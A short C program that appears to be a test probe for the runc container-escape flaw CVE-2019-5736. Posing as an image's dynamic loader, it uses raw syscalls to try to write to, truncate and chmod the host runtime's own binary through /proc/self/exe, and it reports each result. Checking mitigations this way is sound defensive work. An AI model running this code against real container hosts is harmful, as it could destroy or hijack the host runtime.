/* Stands where an image has the dynamic loader. A container whose command is /proc/self/exe makes the runtime execute itself
   in here, with this as its loader (CVE-2019-5736): tries to write to the runtime's own program. No C library, which would need
   a loader itself. */
#define O_RDONLY 0
#define O_WRONLY 1
#define O_PATH 010000000

static long call(long number, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

static void tell(char mark, long result) {
    char text[8] = {mark, ' ', result < 0 ? '-' : '+', '0', '0', '0', '\n'};
    if (result < 0) result = -result;
    text[3] += result / 100 % 10;
    text[4] += result / 10 % 10;
    text[5] += result % 10;
    call(1, 1, (long)text, 7, 0);
}

__attribute__((visibility("hidden"))) void _start(void) {
    const char *exe = "/proc/self/exe";
    char path[] = "/proc/self/fd/0";
    /* It runs: the runtime is what is executed, or this would be the attacking program. */
    tell('r', call(2, (long)exe, O_RDONLY, 0, 0));
    tell('w', call(2, (long)exe, O_WRONLY, 0, 0));
    long held = call(2, (long)exe, O_PATH, 0, 0);
    path[14] += held;
    tell('p', call(2, (long)path, O_WRONLY, 0, 0));
    /* truncate, chmod */
    tell('t', call(76, (long)exe, 0, 0, 0));
    tell('m', call(90, (long)exe, 0777, 0, 0));
    call(231, 0, 0, 0, 0);
}
